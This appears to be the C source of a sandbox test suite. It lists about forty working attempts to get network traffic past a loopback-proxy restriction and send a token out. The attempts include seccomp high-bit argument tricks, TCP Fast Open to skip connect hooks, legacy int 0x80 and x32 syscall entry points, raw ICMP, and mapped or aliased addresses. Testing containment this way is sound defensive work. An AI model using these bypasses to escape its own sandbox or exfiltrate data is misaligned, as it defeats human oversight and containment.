// Ways out: reaching an address and port that is not the loopback proxy.
#include "net.h"
#include <poll.h>

static void tcp_to(const void *address, socklen_t size) {
    int family = ((const struct sockaddr *)address)->sa_family;
    int fd = must(socket(family, SOCK_STREAM, 0));
    must(connect(fd, address, size));
    succeeded("connected");
}

#define TCP(function, make, host, port)                    \
    static void function(const struct world *w) {          \
        (void)w;                                           \
        __auto_type a = make(host, port);                  \
        tcp_to(&a, sizeof a);                              \
    }

TCP(tcp4, in4, w->host4, w->port)
TCP(tcp6, in6, w->host6, w->port)
TCP(loopback4, in4, "127.0.0.1", w->port)
TCP(loopback6, in6, "::1", w->port)
TCP(loopback_other, in4, "127.9.9.9", w->port)
TCP(unspecified4, in4, "0.0.0.0", w->port)
TCP(unspecified6, in6, "::", w->port)
TCP(proxy_port_elsewhere4, in4, w->host4, 3128)
TCP(proxy_port_elsewhere6, in6, w->host6, 3128)

static void mapped(const struct world *w) {
    char text[64];
    snprintf(text, sizeof text, "::ffff:%s", w->host4);
    struct sockaddr_in6 a = in6(text, w->port);
    tcp_to(&a, sizeof a);
}

static void proxy_port_mapped(const struct world *w) {
    char text[64];
    snprintf(text, sizeof text, "::ffff:%s", w->host4);
    struct sockaddr_in6 a = in6(text, 3128);
    tcp_to(&a, sizeof a);
}

static void nonblocking(const struct world *w) {
    struct sockaddr_in a = in4(w->host4, w->port);
    int fd = must(socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, IPPROTO_TCP)), error = 0;
    if (connect(fd, (void *)&a, sizeof a) && errno != EINPROGRESS) refused("connect");
    struct pollfd p = {.fd = fd, .events = POLLOUT};
    poll(&p, 1, 2000);
    socklen_t size = sizeof error;
    getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &size);
    if ((errno = error)) refused("connect");
    succeeded("connected");
}

// A thread's view of arguments is 64 bits wide, the kernel's of an int 32: filters that compare all 64 are blind.
static void high_bits_connect(const struct world *w) {
    struct sockaddr_in a = in4(w->host4, w->port);
    long high = 0x1234500000000L;
    int fd = must(syscall(SYS_socket, high | AF_INET, high | SOCK_STREAM, high | 0));
    must(syscall(SYS_connect, high | fd, &a, high | sizeof a));
    succeeded("connected");
}

static void high_bits_udp(const struct world *w) {
    struct sockaddr_in a = in4(w->host4, w->port);
    long high = 0x700000000L;
    int fd = must(syscall(SYS_socket, high | AF_INET, high | SOCK_DGRAM, high | 0));
    must(sendto(fd, w->token, strlen(w->token), 0, (void *)&a, sizeof a));
    succeeded("sent");
}

// --- TCP Fast Open: connects without connect(), so neither the LSM hook nor a connect filter is asked
static void fastopen_to(const void *address, socklen_t size, const struct world *w, int how, long extra) {
    int fd = must(socket(((const struct sockaddr *)address)->sa_family, SOCK_STREAM, 0));
    struct iovec data = {(void *)w->token, strlen(w->token)};
    struct mmsghdr m = {.msg_hdr = {.msg_name = (void *)address, .msg_namelen = size, .msg_iov = &data, .msg_iovlen = 1}};
    long sent = how == 0   ? syscall(SYS_sendto, fd, data.iov_base, data.iov_len, MSG_FASTOPEN | extra, address, size)
                : how == 1 ? syscall(SYS_sendmsg, fd, &m.msg_hdr, MSG_FASTOPEN | extra)
                           : syscall(SYS_sendmmsg, fd, &m, 1, MSG_FASTOPEN | extra);
    must(sent);
    succeeded("sent %ld", sent);
}

#define FASTOPEN(function, make, host, how, extra)             \
    static void function(const struct world *w) {              \
        __auto_type a = make(host, w->port);                   \
        fastopen_to(&a, sizeof a, w, how, extra);              \
    }

FASTOPEN(fastopen_sendto4, in4, w->host4, 0, 0)
FASTOPEN(fastopen_sendto6, in6, w->host6, 0, 0)
FASTOPEN(fastopen_sendmsg4, in4, w->host4, 1, 0)
FASTOPEN(fastopen_sendmsg6, in6, w->host6, 1, 0)
FASTOPEN(fastopen_sendmmsg4, in4, w->host4, 2, 0)
FASTOPEN(fastopen_sendmmsg6, in6, w->host6, 2, 0)
FASTOPEN(fastopen_high_bits, in4, w->host4, 0, 0x100000000L)
FASTOPEN(fastopen_more_flags, in4, w->host4, 0, MSG_NOSIGNAL | MSG_DONTWAIT)

static void fastopen_option(const struct world *w) {
    struct sockaddr_in a = in4(w->host4, w->port);
    int fd = must(socket(AF_INET, SOCK_STREAM, 0)), on = 1;
    must(setsockopt(fd, IPPROTO_TCP, 30 /* TCP_FASTOPEN_CONNECT */, &on, sizeof on));
    must(connect(fd, (void *)&a, sizeof a));
    must(write(fd, w->token, strlen(w->token)));
    succeeded("sent");
}

// --- datagrams
static void udp_to(const void *address, socklen_t size, const struct world *w, int protocol, int connected) {
    int fd = must(socket(((const struct sockaddr *)address)->sa_family, SOCK_DGRAM, protocol));
    if (connected) {
        must(connect(fd, address, size));
        must(send(fd, w->token, strlen(w->token), 0));
    } else {
        must(sendto(fd, w->token, strlen(w->token), 0, address, size));
    }
    succeeded("sent");
}

#define UDP(function, make, host, protocol, connected)                       \
    static void function(const struct world *w) {                            \
        __auto_type a = make(host, w->port);                                 \
        udp_to(&a, sizeof a, w, protocol, connected);                        \
    }

UDP(udp4, in4, w->host4, 0, 0)
UDP(udp6, in6, w->host6, 0, 0)
UDP(udp4_connected, in4, w->host4, IPPROTO_UDP, 1)
UDP(udp6_connected, in6, w->host6, IPPROTO_UDP, 1)
UDP(udplite4, in4, w->host4, 136, 0)
UDP(udplite6, in6, w->host6, 136, 0)

// An echo request whose payload is ours.
static void ping_to(const void *address, socklen_t size, const struct world *w, int type, int protocol, int kind) {
    unsigned char packet[128] = {kind, 0, 0, 0, 0, 1, 0, 1};
    size_t length = strlen(w->token);
    memcpy(packet + 8, w->token, length);
    int fd = must(socket(((const struct sockaddr *)address)->sa_family, type, protocol));
    must(sendto(fd, packet, 8 + length, 0, address, size));
    succeeded("sent");
}

#define PING(function, make, host, type, protocol, kind)                     \
    static void function(const struct world *w) {                            \
        __auto_type a = make(host, 0);                                       \
        ping_to(&a, sizeof a, w, type, protocol, kind);                      \
    }

PING(ping4, in4, w->host4, SOCK_DGRAM, IPPROTO_ICMP, 8)
PING(ping6, in6, w->host6, SOCK_DGRAM, IPPROTO_ICMPV6, 128)
PING(raw4, in4, w->host4, SOCK_RAW, IPPROTO_ICMP, 8)
PING(raw6, in6, w->host6, SOCK_RAW, IPPROTO_ICMPV6, 128)
PING(raw_any, in4, w->host4, SOCK_RAW, 253, 8)

// --- the kernel's other entrances
static void int80_socketcall(const struct world *w) {
    struct sockaddr_in *a = low_memory();
    uint32_t *args = (void *)(a + 1);
    *a = in4(w->host4, w->port);
    args[0] = AF_INET, args[1] = SOCK_STREAM, args[2] = 0;
    int fd = must(int80(102, 1 /* SYS_SOCKET */, (long)args, 0, 0, 0));
    args[0] = fd, args[1] = (uint32_t)(long)a, args[2] = sizeof *a;
    must(int80(102, 3 /* SYS_CONNECT */, (long)args, 0, 0, 0));
    succeeded("connected");
}

static void int80_connect(const struct world *w) {
    struct sockaddr_in *a = low_memory();
    *a = in4(w->host4, w->port);
    int fd = must(int80(359, AF_INET, SOCK_STREAM, 0, 0, 0));
    must(int80(362, fd, (long)a, sizeof *a, 0, 0));
    succeeded("connected");
}

static void int80_udp(const struct world *w) {
    struct sockaddr_in *a = low_memory();
    char *text = (void *)(a + 1);
    *a = in4(w->host4, w->port);
    strcpy(text, w->token);
    int fd = must(int80(359, AF_INET, SOCK_DGRAM, 0, 0, 0));
    must(int80(362, fd, (long)a, sizeof *a, 0, 0));
    must(int80(4, fd, (long)text, strlen(text), 0, 0));
    succeeded("sent");
}

static void int80_any(const struct world *w) {
    (void)w;
    succeeded("getpid by the i386 table: %ld", must(int80(20, 0, 0, 0, 0, 0)));
}

static void x32_socket(const struct world *w) {
    struct sockaddr_in a = in4(w->host4, w->port);
    int fd = must(syscall(0x40000000 | SYS_socket, AF_INET, SOCK_STREAM, 0));
    must(syscall(0x40000000 | SYS_connect, fd, &a, sizeof a));
    succeeded("connected");
}

#define NAMED(x) {#x, x}
const struct attack egress_attacks[] = {
    NAMED(tcp4), NAMED(tcp6), NAMED(mapped), NAMED(loopback4), NAMED(loopback6), NAMED(loopback_other), NAMED(unspecified4),
    NAMED(unspecified6), NAMED(nonblocking), NAMED(high_bits_connect), NAMED(high_bits_udp), NAMED(proxy_port_elsewhere4),
    NAMED(proxy_port_elsewhere6), NAMED(proxy_port_mapped), NAMED(fastopen_sendto4), NAMED(fastopen_sendto6),
    NAMED(fastopen_sendmsg4), NAMED(fastopen_sendmsg6), NAMED(fastopen_sendmmsg4), NAMED(fastopen_sendmmsg6),
    NAMED(fastopen_high_bits), NAMED(fastopen_more_flags), NAMED(fastopen_option), NAMED(udp4), NAMED(udp6), NAMED(udp4_connected),
    NAMED(udp6_connected), NAMED(udplite4), NAMED(udplite6), NAMED(ping4), NAMED(ping6), NAMED(raw4), NAMED(raw6), NAMED(raw_any),
    NAMED(int80_socketcall), NAMED(int80_connect), NAMED(int80_udp), NAMED(int80_any), NAMED(x32_socket), {0}};
